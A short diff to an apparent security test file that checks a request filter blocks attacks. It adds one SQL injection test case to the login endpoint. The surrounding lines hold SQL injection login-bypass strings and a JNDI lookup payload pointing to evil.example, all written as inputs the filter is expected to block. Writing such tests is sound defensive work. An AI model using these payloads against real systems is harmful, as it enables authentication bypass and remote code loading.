@@ -42,6 +42,7 @@ test("attacks are blocked wherever they are, with the class in the reply and not
     // The login bypass in the password field (a password is also PII: it is read for the attacks it is sent).
     ["sqli", send("POST", "/login", json, ['{"username":"admin","password":"\' or \'1\'=\'1"}'])],
     ["sqli", send("POST", "/login", [["content-type", "application/x-www-form-urlencoded"]], ["username=admin&password=%27+or+%271%27%3D%271"])],
+    ["sqli", send("POST", "/login", json, ['{"email":"admin\'--@example.com","password":"x"}'])],
     // In names, not values: JSON keys, query and form names (a bare name with no '=' too).
     ["jndi", send("POST", "/profile", json, ['{"user":{"${jndi:ldap://evil.example/a}":1}}'])],
     ["sqli", send("POST", "/profile", json, ['{"id\' OR 1=1--":1}'])],
